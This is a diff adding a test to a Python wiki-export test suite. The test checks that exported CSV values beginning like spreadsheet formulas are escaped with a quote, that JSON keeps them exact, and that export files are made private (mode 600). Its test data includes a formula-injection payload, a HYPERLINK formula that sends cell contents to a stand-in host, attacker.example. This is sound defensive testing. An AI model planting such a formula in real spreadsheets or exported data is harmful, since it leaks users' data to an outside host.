@@ -12,7 +12,10 @@ from __future__ import annotations
 
 import csv
 import io
+import json
+import os
 import re
+import stat
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -365,6 +368,35 @@ def test_export_create_export_round_trip(wiki: LiveWiki, empty_wiki: LiveWiki, t
     # The JSON export reads back too: every page is there already, so nothing is saved.
     text = run(empty_wiki, "scripts.create_pages", f"-file:{first_json}", "-always")
     assert "5 rows, 0 invalid (not created, listed above), 0 pages saved, 5 exist already" in text
+
+
+def test_export_keeps_formulas_from_running_and_its_files_private(wiki: LiveWiki, tmp_path: Path) -> None:
+    """A value starting like a spreadsheet formula gets a ' in the CSV and is exact in the JSON; mode 600."""
+    title = f"{ROOT}/export/Formula"
+    formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
+    put_pages(
+        wiki,
+        {
+            title: "{{Partnership\n| name = -Formula\n| partner = " + formula + "; @Other\n| type = content\n"
+            "| lead = volunteers\n| status = active\n| description = +1 for this\n}}\n"
+        },
+    )
+    csv_file, json_file = tmp_path / "formula.csv", tmp_path / "formula.json"
+    csv_file.write_text("an older export, readable and writable by anyone\n")
+    csv_file.chmod(0o666)
+    text = run(wiki, "scripts.export", f"-csv:{csv_file}", f"-json:{json_file}", f"-page:{title}")
+    assert "1 records exported." in text
+    [row] = list(csv.DictReader(io.StringIO(csv_file.read_text(encoding="utf-8"))))
+    assert (row["name"], row["partner"], row["description"]) == ("'-Formula", f"'{formula}; @Other", "'+1 for this")
+    [record] = json.loads(json_file.read_text(encoding="utf-8"))
+    assert (record["name"], record["partner"], record["description"]) == (
+        "-Formula",
+        [formula, "@Other"],
+        "+1 for this",
+    )
+    umask = os.umask(0o077)
+    os.umask(umask)
+    assert {stat.S_IMODE(path.stat().st_mode) for path in (csv_file, json_file)} == {0o600 & ~umask}
 
 
 def test_export_needs_a_target(wiki: LiveWiki) -> None:
